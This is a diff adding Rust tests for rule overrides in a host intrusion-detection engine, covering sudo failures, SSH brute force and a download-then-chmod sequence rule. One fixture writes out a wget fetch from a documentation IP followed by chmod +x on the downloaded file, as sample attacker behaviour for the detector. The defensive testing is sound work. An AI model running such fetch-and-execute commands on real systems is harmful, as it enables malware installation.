@@ -1,6 +1,7 @@
 use super::*;
 use crate::event::{ContainerEvent, ListeningPort};
 use proptest::prelude::*;
+use std::collections::BTreeMap;
 
 fn process(executable: &str, container: Option<(&str, &str)>) -> Event {
     let mut extra = ExtraDetails::new();
@@ -1727,4 +1728,164 @@ fn the_documented_custom_rule_example_works() {
     ] {
         assert_eq!(run(&mut d, &exec(exe, line), now), vec![], "{line}");
     }
+}
+
+fn overrides(list: &[(Rule, RuleOverride)]) -> BTreeMap<Rule, RuleOverride> {
+    list.iter().copied().collect()
+}
+
+#[test]
+fn overrides_change_severity_threshold_and_window() {
+    let sudo_failures = Rule::from_id("sudo-failures").unwrap();
+    let mut d = Detector::new();
+    d.set_overrides(&overrides(&[
+        (
+            sudo_failures,
+            RuleOverride {
+                severity: Some(BaselineSeverity::Critical),
+                threshold: Some(5),
+                window: Some(Duration::from_secs(60)),
+            },
+        ),
+        (
+            Rule::ExecFromTempDir,
+            RuleOverride {
+                severity: Some(BaselineSeverity::Informational),
+                ..Default::default()
+            },
+        ),
+    ]));
+    let t0 = Instant::now();
+    let sudo = || login("sudo", "bob", LoginResult::Fail);
+    // Three (the rule's own count) no longer alert; the fourth falls outside the new window.
+    for s in [0, 1, 2] {
+        assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(s)), vec![]);
+    }
+    assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(61)), vec![]);
+    for s in [62, 63, 64] {
+        assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(s)), vec![]);
+    }
+    let f = run(&mut d, &sudo(), t0 + Duration::from_secs(65));
+    let a = raised(&f);
+    assert_eq!(a.len(), 1, "{f:?}");
+    assert_eq!(a[0].rule_id, "sudo-failures");
+    assert_eq!(a[0].event_count, 5);
+    assert_eq!(a[0].severity, BaselineSeverity::Critical);
+    // A code rule's severity.
+    let f = run(&mut d, &process("/tmp/x", None), t0);
+    assert_eq!(raised(&f)[0].severity, BaselineSeverity::Informational);
+    // Overrides removed: the rules' own settings again.
+    d.set_overrides(&BTreeMap::new());
+    let f = run(&mut d, &process("/tmp/y", None), t0);
+    assert_eq!(raised(&f)[0].severity, Rule::ExecFromTempDir.severity());
+    let carol = || login("sudo", "carol", LoginResult::Fail);
+    let t1 = t0 + Duration::from_secs(1000);
+    assert_eq!(run(&mut d, &carol(), t1), vec![]);
+    assert_eq!(run(&mut d, &carol(), t1), vec![]);
+    assert_eq!(raised(&run(&mut d, &carol(), t1)).len(), 1);
+}
+
+#[test]
+fn overrides_tune_brute_force_and_sequence_windows() {
+    let mut d = Detector::new();
+    let download_then_chmod = Rule::from_id("download-then-chmod").unwrap();
+    d.set_overrides(&overrides(&[
+        (
+            Rule::LoginBruteForce,
+            RuleOverride {
+                threshold: Some(3),
+                window: Some(Duration::from_secs(30)),
+                ..Default::default()
+            },
+        ),
+        (
+            download_then_chmod,
+            RuleOverride {
+                window: Some(Duration::from_secs(10)),
+                ..Default::default()
+            },
+        ),
+    ]));
+    let t0 = Instant::now();
+    let fail = || failed_login("sshd", Some("198.51.100.9"), "root");
+    assert_eq!(run(&mut d, &fail(), t0), vec![]);
+    assert_eq!(run(&mut d, &fail(), t0), vec![]);
+    // Outside the 30 s window: the first two are forgotten.
+    assert_eq!(run(&mut d, &fail(), t0 + Duration::from_secs(31)), vec![]);
+    assert_eq!(run(&mut d, &fail(), t0 + Duration::from_secs(32)), vec![]);
+    let f = run(&mut d, &fail(), t0 + Duration::from_secs(33));
+    let a = raised(&f);
+    assert_eq!(a.len(), 1, "{f:?}");
+    assert_eq!(a[0].event_count, 3);
+    assert!(
+        a[0].description.ends_with("within 30 seconds"),
+        "{}",
+        a[0].description
+    );
+    // The download then chmod 20 s later: past the 10 s window (the rule's own is 120 s).
+    let mut get = exec("/usr/bin/wget", "wget http://198.51.100.7/a -O /home/a/a");
+    let mut chmod = exec("/usr/bin/chmod", "chmod +x /home/a/a");
+    for e in [&mut get, &mut chmod] {
+        if let Payload::ProcessCreate(v) = &mut e.payload {
+            v[0].parent_process_id = 700;
+        }
+    }
+    assert_eq!(run(&mut d, &get, t0), vec![]);
+    assert_eq!(run(&mut d, &chmod, t0 + Duration::from_secs(20)), vec![]);
+    assert_eq!(run(&mut d, &get, t0 + Duration::from_secs(30)), vec![]);
+    let f = run(&mut d, &chmod, t0 + Duration::from_secs(39));
+    assert_eq!(raised(&f)[0].rule_id, "download-then-chmod");
+}
+
+#[test]
+fn what_an_override_may_set() {
+    assert_eq!(Rule::LoginBruteForce.tunable(), (true, true));
+    assert_eq!(
+        Rule::from_id("sudo-failures").unwrap().tunable(),
+        (true, true)
+    );
+    assert_eq!(
+        Rule::from_id("download-then-chmod").unwrap().tunable(),
+        (false, true)
+    );
+    assert_eq!(Rule::ExecFromTempDir.tunable(), (false, false));
+    assert_eq!(
+        Rule::from_id("history-cleared").unwrap().tunable(),
+        (false, false)
+    );
+}
+
+/// The overrides example of docs/detection.md does what the page says.
+#[test]
+fn the_documented_override_example_works() {
+    let doc = include_str!("../../docs/detection.md");
+    let section = &doc[doc
+        .find("### `detectionRuleOverrides`")
+        .expect("the section")..];
+    let start = section.find("```json\n").expect("the example") + "```json\n".len();
+    let text = &section[start..start + section[start..].find("```").unwrap()];
+    let object: serde_json::Value = serde_json::from_str(&format!("{{{text}}}")).unwrap();
+    let desired = serde_json::json!({ "detectionRuleOverrides": object["detectionRuleOverrides"] });
+    let (config, rejected) = crate::config::from_desired(&desired);
+    assert!(rejected.is_empty(), "{rejected:?}");
+    let mut d = Detector::new();
+    d.set_overrides(&config.detection_rule_overrides);
+    let t0 = Instant::now();
+    let fail = || failed_login("sshd", Some("198.51.100.9"), "root");
+    for s in 0..4 {
+        assert_eq!(
+            run(&mut d, &fail(), t0 + Duration::from_secs(s * 100)),
+            vec![]
+        );
+    }
+    let f = run(&mut d, &fail(), t0 + Duration::from_secs(590));
+    let a = raised(&f);
+    assert_eq!(a.len(), 1, "{f:?}");
+    assert_eq!(a[0].event_count, 5);
+    assert_eq!(a[0].severity, BaselineSeverity::Critical);
+    assert!(
+        a[0].description.ends_with("within 10 minutes"),
+        "{}",
+        a[0].description
+    );
 }
